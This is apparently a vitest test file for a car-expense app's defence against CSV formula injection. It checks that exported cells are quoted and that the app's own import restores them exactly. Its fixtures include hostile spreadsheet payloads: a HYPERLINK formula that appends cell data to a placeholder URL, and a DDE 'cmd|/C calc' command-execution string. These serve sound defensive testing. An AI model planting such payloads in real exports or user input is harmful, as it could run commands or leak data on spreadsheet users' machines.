// Spreadsheet formulas in exports (issue 49, OWASP "CSV injection"): every CSV the app writes puts a
// quote before a text cell a spreadsheet would run (= + - @ tab CR), and the app's own import takes
// it off again, so an export still imports back to the exact text that was typed.
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from '../src/lib/csv-formula.js';
import { createTestApp, type TestApp } from './helpers/app.js';
import { registered, type TestClient } from './helpers/client.js';
import { multipart } from './helpers/multipart.js';

let t: TestApp;
let owner: Awaited<ReturnType<typeof registered>>;
let editor: Awaited<ReturnType<typeof registered>>;

/** What an editor of a shared car types, each a formula a spreadsheet would run, or text like one. */
const HOSTILE = [
  '=HYPERLINK("https://x?"&A1,"Details")',
  '-5 discount',
  '@home',
  '+40 722 000 000',
  "'=already quoted",
  "''@two quotes",
  '=1+2',
];
/** Text that is no formula: written and read back as it is. */
const PLAIN = ["'just a quote", 'Oil 5W-30 = fine', 'Comma, "quotes"'];

let n = 0;
const newCar = async (c: TestClient) => {
  n += 1;
  const res = await c.post('/api/vehicles', {
    make: 'Dacia',
    model: 'Duster',
    year: 2020,
    fuelType: 'DIESEL',
    registrationNumber: `CSV-${n}-${Math.random().toString(36).slice(2, 6)}`,
    engineSize: 1.5,
    odometer: 1000,
    aiEvaluationConsent: false,
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.data.id as number;
};

const rowsOf = (csv: string) => Papa.parse<Record<string, string>>(csv.trim(), { header: true }).data;

const recordsOf = async (c: TestClient, id: number) => {
  const strip = (rows: Record<string, unknown>[]) =>
    rows.map(({ id: _id, vehicleId: _v, version: _ver, createdBy: _by, ...rest }) => rest);
  return {
    fuel: strip((await c.get(`/api/fuel-consumptions/vehicle/${id}`)).data),
    expenses: strip((await c.get(`/api/expenses/vehicle/${id}`)).data),
    revisions: strip((await c.get(`/api/revision/vehicle/${id}`)).data),
    insurance: strip((await c.get(`/api/insurance/vehicle/${id}`)).data),
  };
};

/** A car of the owner's that the editor filled with hostile text. */
async function sharedCarWithFormulas() {
  const car = await newCar(owner.client);
  const share = await owner.client.post(`/api/vehicles/${car}/shares`, {
    username: editor.account.username,
    role: 'EDITOR',
  });
  expect(share.statusCode, share.body).toBeLessThan(300);
  const e = editor.client;
  for (const [i, description] of [...HOSTILE, ...PLAIN].entries()) {
    const res = await e.post('/api/expenses', {
      vehicleId: car,
      date: `2024-03-${String(i + 1).padStart(2, '0')}`,
      expenseType: 'Other',
      amount: 10 + i,
      description,
    });
    expect(res.statusCode, res.body).toBe(201);
  }
  const revision = await e.post('/api/revision', {
    vehicleId: car,
    date: '2024-04-01',
    km: 5000,
    price: 300,
    description: '@SUM(1+1)*cmd|"/C calc"!A0',
  });
  expect(revision.statusCode, revision.body).toBe(201);
  const fill = await e.post('/api/fuel-consumptions', {
    vehicleId: car,
    fuelType: 'DIESEL',
    liters: 40,
    fuelPrice: 280,
    date: '2024-04-02',
    odometer: 6000,
  });
  expect(fill.statusCode, fill.body).toBe(201);
  return car;
}

beforeAll(async () => {
  t = await createTestApp();
  owner = await registered(t.app, 'owner');
  editor = await registered(t.app, 'editor');
});
afterAll(() => t.close());

describe('the formula guard', () => {
  it('quotes exactly the texts a spreadsheet would run, and undoes itself exactly', () => {
    for (const text of ['=1', '+1', '-1', '@a', '\tx', '\rx', "'=1", "''-1"])
      expect(guardFormula(text)).toBe(`'${text}`);
    for (const text of ['', 'a=1', "'", "'a", "''", ' =1', '1-2']) expect(guardFormula(text)).toBe(text);
    for (const text of [...HOSTILE, ...PLAIN, '\tx', "'", "'''+"])
      expect(unguardFormula(guardFormula(text))).toBe(text);
  });
});

describe('the vehicle CSV export', () => {
  it("quotes an editor's formulas, so the owner's spreadsheet shows them as text; numbers stay numbers", async () => {
    const car = await sharedCarWithFormulas();
    const res = await owner.client.get(`/api/vehicles/${car}/export.csv`);
    expect(res.statusCode).toBe(200);
    const rows = rowsOf(res.body);
    const descriptions = rows.filter((r) => r.kind === 'expense').map((r) => r.description);
    expect(descriptions).toEqual([...HOSTILE.map((d) => `'${d}`), ...PLAIN]);
    expect(rows.find((r) => r.kind === 'revision')?.description).toBe(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    // No cell of the file begins as a formula would.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // Amounts, litres and distances are numbers, written as numbers.
    expect(rows.find((r) => r.kind === 'fuel')).toMatchObject({
      odometer: '6000',
      liters: '40',
      fuelPrice: '280',
    });
    expect(rows.filter((r) => r.kind === 'expense').map((r) => r.amount)).toEqual(
      [...HOSTILE, ...PLAIN].map((_, i) => String(10 + i)),
    );
    // The raw line of the HYPERLINK: quoted by CSV rules, the formula behind a single quote.
    expect(res.body).toContain(`"'=HYPERLINK(""https://x?""&A1,""Details"")"`);
  });

  it("imports back through the app's own import to the exact text typed", async () => {
    const car = await sharedCarWithFormulas();
    const exported = await owner.client.get(`/api/vehicles/${car}/export.csv`);
    const copy = await newCar(owner.client);
    const body = multipart([
      { name: 'file', file: { filename: 'export.csv', type: 'text/csv', bytes: Buffer.from(exported.body) } },
    ]);
    const preview = await owner.client.request('POST', `/api/import/preview/${copy}`, body.payload, {
      headers: body.headers,
    });
    expect(preview.statusCode, preview.body).toBe(200);
    expect(preview.data.format).toBe('evdra');
    expect(preview.data.sample.expenses.map((e: { description: string }) => e.description)).toEqual([
      ...HOSTILE,
      ...PLAIN,
    ]);
    const back = await owner.client.request('POST', `/api/import/confirm/${copy}`, body.payload, {
      headers: body.headers,
    });
    expect(back.statusCode, back.body).toBe(200);
    expect(back.data.errors).toEqual([]);
    const [a, b] = [await recordsOf(owner.client, car), await recordsOf(owner.client, copy)];
    expect(b.expenses.map((e) => e.description).sort()).toEqual([...HOSTILE, ...PLAIN].sort());
    expect(b).toEqual(a);
    // And the copy exports the very same bytes: guard, import, guard again.
    expect((await owner.client.get(`/api/vehicles/${copy}/export.csv`)).body).toBe(exported.body);
  });

  it("leaves the quote on in other formats: only this app's own export is unguarded", async () => {
    const car = await newCar(owner.client);
    const csv = "Data;Tip;Suma;Descriere\n2024-05-01;Parcare;5;'=1+2\n";
    const body = multipart([
      { name: 'file', file: { filename: 'generic.csv', type: 'text/csv', bytes: Buffer.from(csv) } },
    ]);
    const res = await owner.client.request('POST', `/api/import/preview/${car}`, body.payload, {
      headers: body.headers,
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.data.format).toBe('generic');
    expect(res.data.sample.expenses[0]?.description).toBe("'=1+2");
  });
});

describe('the account ZIP export', () => {
  it('guards every CSV inside it, the same bytes as the vehicle export', async () => {
    const car = await sharedCarWithFormulas();
    const res = await owner.client.get('/api/account/export');
    expect(res.statusCode).toBe(200);
    const files = unzipSync(new Uint8Array(res.rawPayload));
    const csvs = Object.keys(files).filter((name) => name.endsWith('.csv'));
    expect(csvs).toContain(`records/vehicle-${car}.csv`);
    for (const name of csvs) {
      const text = strFromU8(files[name] as Uint8Array);
      for (const row of rowsOf(text))
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const inZip = strFromU8(files[`records/vehicle-${car}.csv`] as Uint8Array);
    expect(inZip).toContain(`"'=HYPERLINK(""https://x?""&A1,""Details"")"`);
    expect(inZip).toBe((await owner.client.get(`/api/vehicles/${car}/export.csv`)).body);
  });
});
